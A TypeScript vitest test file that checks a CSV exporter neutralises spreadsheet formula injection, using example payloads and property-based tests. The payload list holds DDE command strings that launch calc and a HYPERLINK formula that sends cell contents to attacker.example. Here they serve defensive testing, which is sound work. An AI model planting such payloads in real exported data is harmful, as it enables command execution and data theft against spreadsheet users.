import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../commands/csv.ts';

/** The cells of one CSV line, read back as a spreadsheet's CSV import reads them (RFC 4180). */
function cellsOf(csv: string): string[] {
  // A first cell of our own: Papa Parse drops a byte order mark at the very start of its input.
  const parsed = Papa.parse<string[]>(`x,${csv.replace(/\r\n$/, '')}`, { newline: '\r\n', delimiter: ',' });
  return parsed.data[0]?.slice(1) ?? [];
}

/**
 * The test's own idea of a cell a spreadsheet could run, written apart from the code under test:
 * skip every leading space, control or format character, fold compatibility forms (full-width
 * `＝`), and look for a formula sign; a cell that is exactly a number is data, whatever its sign.
 */
function couldRunAsFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  if (cell.startsWith('\t') || cell.startsWith('\r')) return true;
  const start = [...cell.normalize('NFKC')].findIndex(
    (character) => !/[\s\p{Cc}\p{Cf}\p{Zs}]/u.test(character),
  );
  const seen = start === -1 ? '' : [...cell.normalize('NFKC')].slice(start).join('');
  if (!/^[=+\-@]/.test(seen)) return false;
  const asNumber = seen.replaceAll(',', '').replace(/%$/, '');
  return !(/\d/.test(asNumber) && /^[+-]?[\d.eE+-]+$/.test(asNumber) && Number.isFinite(Number(asNumber)));
}

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks', () => {
    expect(toCsv([['a,b', 'say "hi"', 'two\nlines', 'plain']])).toBe(
      '"a,b","say ""hi""","two\nlines",plain\r\n',
    );
  });

  it('neutralizes cells a spreadsheet would run as formulas, but keeps negative numbers', () => {
    expect(toCsv([['=HYPERLINK("x")', '+cmd', '@SUM(A1)', '-2.50', '-x', '\tcell']])).toBe(
      `"'=HYPERLINK(""x"")",'+cmd,'@SUM(A1),-2.50,'-x,"'\tcell"\r\n`,
    );
  });

  it('neutralizes the payloads of issue 21 that passed the old check', () => {
    const payloads = [
      "-2+3+cmd|' /C calc'!A0",
      '-1+HYPERLINK("https://attacker.example/?d="&A1,"click")',
      '＝HYPERLINK("https://attacker.example")',
      '＋cmd',
      '－1+1',
      '＠SUM(A1)',
      ' =1+1',
      '\u00a0=1+1',
      '\u3000=1+1',
      '\u200b=1+1',
      '\ufeff=1+1',
      '\r=1+1',
      '\n=1+1',
      '﹦1+1',
      "+1+cmd|' /C calc'!A0",
      // Found by the property test below: an exponent without a mantissa is a cell reference.
      '+e0',
      '﹣e9',
    ];
    const cells = cellsOf(toCsv([payloads]));
    expect(cells).toEqual(payloads.map((payload) => `'${payload}`));
  });

  it('leaves plain numbers as numbers', () => {
    const numbers = ['-2', '+3.5', '-1e5', '1,234.5', '-1,234.5', '-0.25', '+7', '-.5', '-12%', '42'];
    expect(cellsOf(toCsv([numbers]))).toEqual(numbers);
  });

  it('property: no cell a spreadsheet could run survives, every cell reads back as written or with one quote, numbers stay', () => {
    // Strings built mostly of what matters at a cell's start: formula signs in ASCII, full-width and
    // small forms, spaces of every kind, digits and number punctuation, and the CSV specials.
    const pieces = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '＋',
      '－',
      '＠',
      '﹦',
      '﹢',
      '﹣',
      ' ',
      '\u00a0',
      '\u2007',
      '\u3000',
      '\u200b',
      '\ufeff',
      '\t',
      '\r',
      '\n',
      '0',
      '1',
      '9',
      '.',
      ',',
      'e',
      '%',
      '"',
      ';',
      "'",
      'A',
      'cmd|',
      'HYPERLINK(',
      ')',
    );
    const cellText = fc.oneof(
      fc.array(pieces, { maxLength: 8 }).map((parts) => parts.join('')),
      fc.string({ unit: 'binary', maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(cellText, { minLength: 1, maxLength: 5 }), (row) => {
        const cells = cellsOf(toCsv([row]));
        expect(cells).toHaveLength(row.length);
        cells.forEach((cell, index) => {
          const original = row[index] ?? '';
          expect([original, `'${original}`]).toContain(cell);
          expect(couldRunAsFormula(cell)).toBe(false);
        });
      }),
      { numRuns: 2_000 },
    );
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer(), (real, whole) => {
        for (const number of [String(real), String(whole), `+${Math.abs(whole)}`]) {
          expect(cellsOf(toCsv([[number]]))).toEqual([number]);
        }
      }),
    );
  });
});
